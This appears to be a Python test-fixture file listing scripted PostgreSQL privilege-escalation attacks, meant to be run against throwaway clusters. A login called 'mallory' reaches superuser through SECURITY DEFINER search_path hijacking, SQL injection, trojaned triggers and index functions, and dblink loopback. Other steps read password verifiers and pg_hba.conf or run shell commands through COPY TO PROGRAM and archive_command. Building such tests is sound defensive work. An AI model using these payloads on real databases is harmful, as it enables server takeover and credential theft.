"""Scripted attacks, one for each kind of step: what a server looks like, and what a login does with it.

Everything runs on throwaway clusters that the test started; the payload makes the attacker's own
throwaway role superuser, or touches, reads or copies a file of the cluster's own folder.
"""

from __future__ import annotations

from typing import NamedTuple

# makes the attacker superuser as soon as it runs with a superuser's rights, and is silent before
TAKE = """
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
    END IF;
"""
LAB = """
    CREATE SCHEMA lab;
    GRANT USAGE ON SCHEMA lab TO PUBLIC;
    CREATE TABLE lab.patient (id integer, nir text);
    INSERT INTO lab.patient VALUES (1, 'made up');
"""
DEFINER = """
    CREATE FUNCTION lab.total(n integer) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER {config}
        AS $f$ BEGIN RETURN n + 1; END $f$;
    REVOKE EXECUTE ON FUNCTION lab.total(integer) FROM PUBLIC;
    GRANT EXECUTE ON FUNCTION lab.total(integer) TO mallory;
"""
# an operator of mallory's own for the + of a body
OPERATOR = (
    "CREATE FUNCTION {schema}.plus(integer, integer) RETURNS integer LANGUAGE plpgsql AS"
    " $f$ BEGIN " + TAKE + " RETURN $1; END $f$",
    "CREATE OPERATOR {schema}.+ (LEFTARG = integer, RIGHTARG = integer, PROCEDURE = {schema}.plus)",
    "GRANT USAGE ON SCHEMA {schema} TO PUBLIC",
)


class Attack(NamedTuple):
    """One attack by the login mallory.

    `setup` is run by a superuser; `steps` by mallory, one by one, whatever fails; `victim` then by a
    superuser, or by the role `victim_role`. `kinds` are the steps that the printed path must have.
    `won` is superuser, or a question to the file system or to mallory's last answer: see the test.
    """

    name: str
    kinds: tuple[str, ...]
    setup: str
    steps: tuple[str, ...]
    won: str = "superuser"
    victim: str = ""
    victim_role: str = "postgres"
    versions: tuple[int, int] = (10, 99)
    hba: str | None = None
    settings: tuple[tuple[str, str], ...] = ()


def _trigger(name: str) -> str:
    return (
        f"CREATE OR REPLACE FUNCTION {name} RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN {TAKE}"
        " RETURN NEW; END $f$"
    )


ATTACKS = (
    Attack(
        "membership",
        ("membership", "membership"),
        "CREATE ROLE boss SUPERUSER NOLOGIN; CREATE ROLE admins NOINHERIT IN ROLE boss;"
        "GRANT admins TO mallory;",
        ("SET ROLE boss", "ALTER ROLE mallory SUPERUSER"),
    ),
    Attack(
        "admin-option",
        ("admin-option", "predefined-role"),
        "GRANT pg_write_server_files TO mallory WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;",
        ("GRANT pg_write_server_files TO mallory WITH INHERIT TRUE", "COPY (SELECT 1) TO '{folder}/proof'"),
        won="file",
        versions=(16, 99),
    ),
    Attack(
        "admin-option-inherited",
        ("membership", "admin-option", "membership"),
        "CREATE ROLE boss SUPERUSER NOLOGIN; CREATE ROLE deputies IN ROLE boss; CREATE ROLE helpdesk;"
        "GRANT deputies TO helpdesk WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;"
        "GRANT helpdesk TO mallory WITH INHERIT TRUE, SET FALSE;",
        ("GRANT deputies TO mallory", "SET ROLE boss", "ALTER ROLE mallory SUPERUSER"),
        versions=(16, 99),
    ),
    Attack(
        "createrole",
        ("createrole", "predefined-role"),
        "ALTER ROLE mallory CREATEROLE;",
        ("GRANT pg_execute_server_program TO mallory", "COPY (SELECT 1) TO PROGRAM 'touch {folder}/proof'"),
        won="file",
        versions=(11, 15),
    ),
    Attack(
        "createrole-to-a-member-of-superuser",
        ("createrole", "membership"),
        "CREATE ROLE boss SUPERUSER NOLOGIN; CREATE ROLE admins IN ROLE boss; ALTER ROLE mallory CREATEROLE;",
        ("GRANT admins TO mallory", "SET ROLE boss", "ALTER ROLE mallory SUPERUSER"),
        versions=(10, 10),
    ),
    Attack(
        "runs-programs",
        ("membership", "predefined-role"),
        "GRANT pg_execute_server_program TO mallory;",
        ("COPY (SELECT 1) TO PROGRAM 'touch {folder}/proof'",),
        won="file",
        versions=(11, 99),
    ),
    Attack(
        "writes-files",
        ("membership", "membership", "predefined-role"),
        "CREATE ROLE imports IN ROLE pg_write_server_files; GRANT imports TO mallory;",
        ("SET ROLE imports", "COPY (SELECT 1) TO '{folder}/proof'"),
        won="file",
        versions=(11, 99),
    ),
    Attack(
        "reads-files",
        ("membership", "predefined-role"),
        "GRANT pg_read_server_files TO mallory;",
        (
            "SELECT pg_read_file('{folder}/data/pg_hba.conf')",
            "CREATE TEMP TABLE hba (line text)",
            "COPY hba FROM '{folder}/data/pg_hba.conf'",
            "SELECT count(*) > 5 FROM hba",
        ),
        won="answer",
        versions=(11, 99),
    ),
    Attack(
        "reads-verifiers-as-reader-of-all-data",
        ("membership", "predefined-role"),
        "GRANT pg_read_all_data TO mallory;",
        ("SELECT rolpassword LIKE 'SCRAM%' FROM pg_authid WHERE rolname = 'postgres'",),
        won="answer",
        versions=(14, 99),
    ),
    Attack(
        "reads-verifiers-by-grant",
        ("catalog-read",),
        "GRANT SELECT (rolname, rolpassword) ON pg_authid TO mallory;",
        ("SELECT rolpassword LIKE 'SCRAM%' FROM pg_authid WHERE rolname = 'postgres'",),
        won="answer",
    ),
    Attack(
        "definer-injection",
        ("grant", "definer-injection"),
        LAB
        + """
        CREATE FUNCTION lab.rename(name text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
            SET search_path = pg_catalog, pg_temp
            AS $f$ BEGIN EXECUTE 'UPDATE lab.patient SET nir = ''' || name || ''' WHERE false'; END $f$;
        REVOKE EXECUTE ON FUNCTION lab.rename(text) FROM PUBLIC;
        GRANT EXECUTE ON FUNCTION lab.rename(text) TO mallory;
        """,
        ("SELECT lab.rename('x'' WHERE false; ALTER ROLE mallory SUPERUSER; --')",),
    ),
    Attack("replication", ("replication",), "ALTER ROLE mallory REPLICATION;", (), won="copy as mallory"),
    Attack(
        "replication-of-another-role",
        ("membership", "password", "replication"),
        "CREATE ROLE standby LOGIN REPLICATION; GRANT standby TO mallory;",
        ("SET ROLE standby", "ALTER ROLE standby PASSWORD 'known-to-mallory'"),
        won="copy as standby",
        versions=(16, 99),
    ),
    Attack(
        "rights-of-a-superuser-who-owns-a-function",
        ("membership", "ownership"),
        "CREATE ROLE boss SUPERUSER NOLOGIN; GRANT boss TO mallory WITH INHERIT TRUE, SET FALSE;"
        "CREATE FUNCTION public.own() RETURNS integer LANGUAGE sql AS 'SELECT 1';"
        "ALTER FUNCTION public.own() OWNER TO boss; GRANT CREATE ON SCHEMA public TO mallory;",
        (
            "CREATE OR REPLACE FUNCTION public.own() RETURNS integer LANGUAGE plpgsql SECURITY DEFINER AS"
            f" $f$ BEGIN {TAKE} RETURN 1; END $f$",
            "SELECT public.own()",
        ),
        versions=(16, 99),
    ),
    Attack(
        "rights-of-a-superuser-who-owns-a-table",
        ("membership", "ownership"),
        LAB + "CREATE ROLE boss SUPERUSER NOLOGIN; GRANT boss TO mallory WITH INHERIT TRUE, SET FALSE;"
        "ALTER TABLE lab.patient OWNER TO boss; GRANT CREATE ON SCHEMA lab TO boss;",
        (
            "CREATE FUNCTION pg_temp.inner_one(n integer) RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
            "CREATE FUNCTION lab.outer_one(n integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS"
            " $f$ BEGIN RETURN lab.inner_one(n); END $f$",
            "CREATE FUNCTION lab.inner_one(n integer) RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
            "CREATE INDEX ON lab.patient (lab.outer_one(id))",
        ),
        versions=(16, 99),
    ),
    Attack(
        "trigger-function",
        ("trigger",),
        LAB + "CREATE FUNCTION lab.audit() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';"
        "ALTER FUNCTION lab.audit() OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "CREATE TRIGGER audit BEFORE INSERT ON lab.patient FOR EACH ROW EXECUTE PROCEDURE lab.audit();",
        (_trigger("lab.audit()"),),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
    ),
    Attack(
        "trigger-function-where-its-owner-may-not-create",
        ("trigger",),
        LAB + "CREATE FUNCTION lab.audit() RETURNS trigger LANGUAGE plpgsql AS"
        " 'BEGIN NEW.id := NEW.id + 1; RETURN NEW; END';"
        "ALTER FUNCTION lab.audit() OWNER TO mallory; CREATE SCHEMA mallory AUTHORIZATION mallory;"
        "CREATE TRIGGER audit BEFORE INSERT ON lab.patient FOR EACH ROW EXECUTE PROCEDURE lab.audit();",
        (
            *(step.format(schema="mallory") for step in OPERATOR),
            "ALTER FUNCTION lab.audit() SET search_path = mallory, pg_catalog",
        ),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
    ),
    Attack(
        "trigger-privilege",
        ("trigger",),
        LAB + "GRANT ALL ON lab.patient TO mallory; CREATE SCHEMA mallory AUTHORIZATION mallory;"
        "GRANT USAGE ON SCHEMA mallory TO PUBLIC;",
        (
            _trigger("mallory.own()"),
            "CREATE TRIGGER own BEFORE INSERT ON lab.patient FOR EACH ROW EXECUTE PROCEDURE mallory.own()",
        ),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
    ),
    Attack(
        "table-owner-and-a-stronger-writer",
        ("trigger", "membership"),
        LAB + "CREATE ROLE boss SUPERUSER NOLOGIN; CREATE ROLE operator LOGIN IN ROLE boss;"
        "ALTER TABLE lab.patient OWNER TO mallory; GRANT INSERT ON lab.patient TO operator;"
        "CREATE SCHEMA mallory AUTHORIZATION mallory; GRANT USAGE ON SCHEMA mallory TO PUBLIC;",
        (
            "CREATE FUNCTION mallory.own() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN"
            " IF current_user = 'operator' THEN"
            " SET ROLE boss; ALTER ROLE mallory SUPERUSER; RESET ROLE; END IF;"
            " RETURN NEW; END $f$",
            "CREATE TRIGGER own BEFORE INSERT ON lab.patient FOR EACH ROW EXECUTE PROCEDURE mallory.own()",
        ),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
        victim_role="operator",
    ),
    Attack(
        "event-trigger",
        ("event-trigger",),
        LAB + "CREATE FUNCTION lab.ddl() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';"
        "ALTER FUNCTION lab.ddl() OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "CREATE EVENT TRIGGER ddl ON ddl_command_end EXECUTE PROCEDURE lab.ddl();",
        (
            "CREATE OR REPLACE FUNCTION lab.ddl() RETURNS event_trigger LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} END $f$",
        ),
        victim="CREATE TABLE lab.new (a integer)",
    ),
    Attack(
        "login-event-trigger",
        ("event-trigger",),
        LAB + "CREATE FUNCTION lab.entry() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';"
        "ALTER FUNCTION lab.entry() OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "CREATE EVENT TRIGGER entry ON login EXECUTE PROCEDURE lab.entry();",
        (
            "CREATE OR REPLACE FUNCTION lab.entry() RETURNS event_trigger LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} END $f$",
        ),
        victim="SELECT 1",
        versions=(17, 99),
    ),
    Attack(
        "definer-without-search-path",
        ("grant", "definer-search-path"),
        LAB + DEFINER.format(config="") + "CREATE SCHEMA mallory AUTHORIZATION mallory;",
        (
            *(step.format(schema="mallory") for step in OPERATOR),
            "SET search_path = mallory, pg_catalog",
            "SELECT lab.total(1)",
        ),
    ),
    Attack(
        "definer-with-a-writable-schema",
        ("grant", "definer-search-path"),
        LAB
        + DEFINER.format(config="SET search_path = shared, pg_catalog")
        + "CREATE SCHEMA shared; GRANT USAGE, CREATE ON SCHEMA shared TO mallory;"
        "GRANT USAGE ON SCHEMA shared TO PUBLIC;",
        (*(step.format(schema="shared") for step in OPERATOR), "SELECT lab.total(1)"),
    ),
    Attack(
        "definer-set-off-by-a-write",
        ("grant", "definer-search-path"),
        LAB + "CREATE FUNCTION lab.stamp() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS"
        " 'BEGIN NEW.id := NEW.id + 1; RETURN NEW; END';"
        "CREATE TRIGGER stamp BEFORE INSERT ON lab.patient FOR EACH ROW EXECUTE PROCEDURE lab.stamp();"
        "GRANT INSERT ON lab.patient TO mallory; CREATE SCHEMA mallory AUTHORIZATION mallory;",
        (
            *(step.format(schema="mallory") for step in OPERATOR),
            "SET search_path = mallory, pg_catalog",
            "INSERT INTO lab.patient VALUES (2, 'made up')",
        ),
    ),
    Attack(
        "definer-of-a-role-that-owns-nothing-but-power",
        ("grant", "definer-search-path", "membership", "predefined-role"),
        LAB + DEFINER.format(config="") + "CREATE ROLE exporter IN ROLE pg_write_server_files;"
        "ALTER FUNCTION lab.total(integer) OWNER TO exporter; CREATE SCHEMA mallory AUTHORIZATION mallory;"
        "GRANT USAGE ON SCHEMA mallory TO PUBLIC;",
        (
            "CREATE FUNCTION mallory.plus(integer, integer) RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN"
            " COPY (SELECT 1) TO '{folder}/proof'; RETURN $1; END $f$",
            "CREATE OPERATOR mallory.+ (LEFTARG = integer, RIGHTARG = integer, PROCEDURE = mallory.plus)",
            "SET search_path = mallory, pg_catalog",
            "SELECT lab.total(1)",
        ),
        won="file",
        versions=(11, 99),
    ),
    Attack(
        "owner-of-the-database",
        ("ownership", "grant", "definer-search-path"),
        LAB + DEFINER.format(config="") + "REVOKE EXECUTE ON FUNCTION lab.total(integer) FROM mallory;"
        "GRANT EXECUTE ON FUNCTION lab.total(integer) TO pg_database_owner;"
        "ALTER DATABASE lab OWNER TO mallory;",
        (
            "CREATE SCHEMA mallory",
            *(step.format(schema="mallory") for step in OPERATOR),
            "SET search_path = mallory, pg_catalog",
            "SELECT lab.total(1)",
        ),
        versions=(14, 99),
    ),
    Attack(
        "function-that-a-definer-calls",
        ("definer-call",),
        LAB
        + """
        CREATE FUNCTION lab.part(n integer) RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN RETURN n; END $f$;
        ALTER FUNCTION lab.part(integer) OWNER TO mallory;
        GRANT CREATE ON SCHEMA lab TO mallory;
        CREATE FUNCTION lab.whole(n integer) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER
            SET search_path = pg_catalog, pg_temp AS $f$ BEGIN RETURN lab.part(n); END $f$;
        """,
        (
            "CREATE OR REPLACE FUNCTION lab.part(n integer) RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
            "SELECT lab.whole(1)",
        ),
    ),
    Attack(
        "table-that-a-definer-writes",
        ("definer-call",),
        LAB
        + """
        CREATE TABLE lab.log (what text);
        ALTER TABLE lab.log OWNER TO mallory;
        CREATE SCHEMA mallory AUTHORIZATION mallory;
        GRANT USAGE ON SCHEMA mallory TO PUBLIC;
        CREATE FUNCTION lab.note(what text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
            SET search_path = pg_catalog, pg_temp AS $f$ BEGIN INSERT INTO lab.log VALUES (what); END $f$;
        """,
        (
            _trigger("mallory.take()"),
            "CREATE TRIGGER take BEFORE INSERT ON lab.log FOR EACH ROW EXECUTE PROCEDURE mallory.take()",
            "SELECT lab.note('x')",
        ),
    ),
    Attack(
        "function-in-a-default",
        ("expression",),
        LAB
        + """
        CREATE FUNCTION lab.next() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$;
        ALTER TABLE lab.patient ALTER id SET DEFAULT lab.next();
        ALTER FUNCTION lab.next() OWNER TO mallory;
        GRANT CREATE ON SCHEMA lab TO mallory;
        """,
        (
            "CREATE OR REPLACE FUNCTION lab.next() RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN 1; END $f$",
        ),
        victim="INSERT INTO lab.patient (nir) VALUES ('made up')",
    ),
    Attack(
        "function-in-an-index",
        ("expression",),
        LAB
        + """
        CREATE FUNCTION lab.plain(nir text) RETURNS text LANGUAGE plpgsql IMMUTABLE
            AS $f$ BEGIN RETURN nir; END $f$;
        CREATE INDEX plain ON lab.patient (lab.plain(nir));
        ALTER FUNCTION lab.plain(text) OWNER TO mallory;
        GRANT CREATE ON SCHEMA lab TO mallory;
        """,
        (
            "CREATE OR REPLACE FUNCTION lab.plain(nir text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS"
            f" $f$ BEGIN {TAKE.replace('EXECUTE', 'PERFORM lab.take_now(); --')} RETURN nir; END $f$",
            "CREATE FUNCTION lab.take_now() RETURNS void LANGUAGE plpgsql VOLATILE AS"
            " $f$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; END $f$",
        ),
        victim="ANALYZE lab.patient",
    ),
    Attack(
        "view-that-writes-to-the-catalog",
        ("catalog-view",),
        "CREATE VIEW public.logins AS SELECT rolname, rolsuper FROM pg_authid;"
        "GRANT SELECT, UPDATE ON public.logins TO mallory;",
        ("UPDATE public.logins SET rolsuper = true WHERE rolname = 'mallory'",),
    ),
    Attack(
        "server-function-that-writes",
        ("server-function",),
        "GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO mallory;",
        ("SELECT lo_create(4711)", "SELECT lo_export(4711, '{folder}/proof')"),
        won="file",
        versions=(11, 99),
    ),
    Attack(
        "server-function-that-reads",
        ("server-function",),
        "GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO mallory;",
        ("SELECT length(pg_read_binary_file('global/1260')) > 0",),
        won="answer",
        versions=(11, 99),
    ),
    Attack(
        "language-marked-trusted",
        ("language",),
        "UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal';"
        "REVOKE USAGE ON LANGUAGE internal FROM PUBLIC; GRANT USAGE ON LANGUAGE internal TO mallory;",
        (
            "CREATE FUNCTION pg_temp.own_export(oid, text) RETURNS integer LANGUAGE internal STRICT"
            " AS 'be_lo_export'",
            "SELECT lo_create(4711)",
            "SELECT pg_temp.own_export(4711, '{folder}/proof')",
        ),
        won="file",
        versions=(11, 99),
    ),
    Attack(
        "definer-that-grants-what-it-is-told",
        ("grant", "definer-roles"),
        LAB + "CREATE ROLE boss SUPERUSER NOLOGIN;"
        "CREATE FUNCTION lab.enrol(role_name text, person text) RETURNS void LANGUAGE plpgsql"
        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp"
        " AS $f$ BEGIN EXECUTE format('GRANT %I TO %I', role_name, person); END $f$;"
        "REVOKE EXECUTE ON FUNCTION lab.enrol(text, text) FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.enrol(text, text) TO mallory;",
        ("SELECT lab.enrol('boss', 'mallory')", "SET ROLE boss", "ALTER ROLE mallory SUPERUSER"),
    ),
    Attack(
        "definer-that-makes-superusers",
        ("grant", "definer-roles"),
        LAB + "CREATE FUNCTION lab.new_admin(who text) RETURNS void LANGUAGE plpgsql"
        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp"
        " AS $f$ BEGIN EXECUTE format('CREATE ROLE %I LOGIN SUPERUSER', who); END $f$;"
        "REVOKE EXECUTE ON FUNCTION lab.new_admin(text) FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.new_admin(text) TO mallory;",
        ("SELECT lab.new_admin('eve')",),
        won="superuser eve",
    ),
    Attack(
        "definer-that-sets-passwords",
        ("grant", "definer-roles"),
        LAB + "CREATE ROLE boss SUPERUSER LOGIN;"
        "CREATE FUNCTION lab.new_password(who text, word text) RETURNS void LANGUAGE plpgsql"
        " SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $f$ BEGIN"
        " EXECUTE 'ALTER ROLE ' || format('%I WITH PASSWORD %L', who, word); END $f$;"
        "REVOKE EXECUTE ON FUNCTION lab.new_password(text, text) FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.new_password(text, text) TO mallory;",
        ("SELECT lab.new_password('boss', 'known-to-mallory')",),
        won="password of boss",
        hba="local all boss md5\nlocal all all trust\n",
    ),
    Attack(
        "temporary-table-before-a-fixed-path",
        ("grant", "definer-search-path"),
        LAB + "CREATE FUNCTION lab.count_all() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER"
        " SET search_path = lab AS 'BEGIN RETURN (SELECT count(*) FROM patient); END';"
        "REVOKE EXECUTE ON FUNCTION lab.count_all() FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.count_all() TO mallory;",
        (
            f"CREATE FUNCTION pg_temp.own() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN {TAKE}"
            " RETURN 1; END $f$",
            "CREATE VIEW pg_temp.patient AS SELECT pg_temp.own() AS id",
            "SELECT lab.count_all()",
        ),
    ),
    Attack(
        "temporary-table-that-is-written",
        ("grant", "definer-search-path"),
        LAB + "CREATE FUNCTION lab.add() RETURNS void LANGUAGE sql SECURITY DEFINER"
        " SET search_path = pg_catalog, lab AS 'INSERT INTO patient VALUES (2)';"
        "REVOKE EXECUTE ON FUNCTION lab.add() FROM PUBLIC; GRANT EXECUTE ON FUNCTION lab.add() TO mallory;",
        (
            _trigger("pg_temp.own()"),
            "CREATE TEMP TABLE patient (id integer)",
            "CREATE TRIGGER own BEFORE INSERT ON patient FOR EACH ROW EXECUTE PROCEDURE pg_temp.own()",
            "SELECT lab.add()",
        ),
    ),
    Attack(
        "temporary-type",
        ("grant", "definer-search-path"),
        LAB + "CREATE FUNCTION lab.label(n integer) RETURNS text LANGUAGE sql SECURITY DEFINER"
        " SET search_path = pg_catalog AS 'SELECT n::text';"
        "REVOKE EXECUTE ON FUNCTION lab.label(integer) FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.label(integer) TO mallory;",
        (
            "CREATE FUNCTION pg_temp.own(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN true; END $f$",
            "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.own(value))",
            "SELECT lab.label(1)",
        ),
    ),
    Attack(
        "schema-that-comes-before-the-one-that-is-meant",
        ("grant", "definer-search-path"),
        LAB + "CREATE SCHEMA shared; GRANT USAGE, CREATE ON SCHEMA shared TO mallory;"
        "GRANT USAGE ON SCHEMA shared TO PUBLIC;"
        "CREATE FUNCTION lab.count_all() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER"
        " SET search_path = shared, lab, pg_temp AS 'BEGIN RETURN (SELECT count(*) FROM patient); END';"
        "REVOKE EXECUTE ON FUNCTION lab.count_all() FROM PUBLIC;"
        "GRANT EXECUTE ON FUNCTION lab.count_all() TO mallory;",
        (
            f"CREATE FUNCTION shared.own() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN {TAKE}"
            " RETURN 1; END $f$",
            "CREATE VIEW shared.patient AS SELECT shared.own() AS id",
            "GRANT SELECT ON shared.patient TO PUBLIC",
            "SELECT lab.count_all()",
        ),
    ),
    Attack(
        "search-path-of-superusers",
        ("search-path",),
        "CREATE SCHEMA mallory AUTHORIZATION mallory;"
        "ALTER DATABASE lab SET search_path = mallory, pg_catalog;",
        tuple(step.format(schema="mallory") for step in OPERATOR),
        victim="SELECT 1 + 1",
    ),
    Attack(
        "dblink-to-the-server-itself",
        ("loopback",),
        "CREATE EXTENSION dblink; GRANT USAGE ON SCHEMA public TO mallory;"
        "GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO mallory;",
        (
            "SELECT public.dblink_connect_u('user=postgres dbname=lab host={folder} port={port}')",
            "SELECT public.dblink_exec('ALTER ROLE mallory SUPERUSER')",
        ),
    ),
    Attack(
        "parameter-that-names-a-library",
        ("parameter",),
        "GRANT ALTER SYSTEM ON PARAMETER session_preload_libraries TO mallory;"
        # a library file of mallory's own: here one that does no harm, under another name
        "COPY (SELECT 1) TO PROGRAM 'cp {library}/auto_explain.* {folder}/'",
        ("ALTER SYSTEM SET session_preload_libraries = '{folder}/auto_explain'",),
        won="library",
        victim="SELECT pg_reload_conf(); SELECT pg_sleep(0.2)",
        versions=(15, 99),
    ),
    Attack(
        "function-in-a-view",
        ("expression",),
        LAB
        + "CREATE FUNCTION lab.shown(n integer) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN n; END';"
        "ALTER FUNCTION lab.shown(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "CREATE VIEW lab.overview AS SELECT lab.shown(id) AS id FROM lab.patient;",
        (
            "CREATE OR REPLACE FUNCTION lab.shown(n integer) RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
        ),
        victim="SELECT * FROM lab.overview",
    ),
    Attack(
        "function-in-a-rule",
        ("expression",),
        LAB
        + "CREATE FUNCTION lab.noted(n integer) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN n; END';"
        "ALTER FUNCTION lab.noted(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "CREATE TABLE lab.log (id integer);"
        "CREATE RULE note AS ON INSERT TO lab.patient DO ALSO INSERT INTO lab.log SELECT lab.noted(NEW.id);",
        (
            "CREATE OR REPLACE FUNCTION lab.noted(n integer) RETURNS integer LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN n; END $f$",
        ),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
    ),
    Attack(
        "function-in-a-check-constraint",
        ("expression",),
        LAB
        + "CREATE FUNCTION lab.sound(n integer) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';"
        "ALTER FUNCTION lab.sound(integer) OWNER TO mallory; GRANT CREATE ON SCHEMA lab TO mallory;"
        "ALTER TABLE lab.patient ADD CHECK (lab.sound(id));",
        (
            "CREATE OR REPLACE FUNCTION lab.sound(n integer) RETURNS boolean LANGUAGE plpgsql AS"
            f" $f$ BEGIN {TAKE} RETURN true; END $f$",
        ),
        victim="INSERT INTO lab.patient VALUES (2, 'made up')",
    ),
    Attack(
        "parameter-that-names-a-program",
        ("parameter",),
        "GRANT ALTER SYSTEM ON PARAMETER archive_command TO mallory;",
        ("ALTER SYSTEM SET archive_command = 'touch {folder}/proof'",),
        won="file",
        victim="SELECT pg_reload_conf(); SELECT pg_sleep(0.2); SELECT pg_switch_wal()",
        versions=(15, 99),
        settings=(("archive_mode", "on"), ("archive_command", "true")),
    ),
)
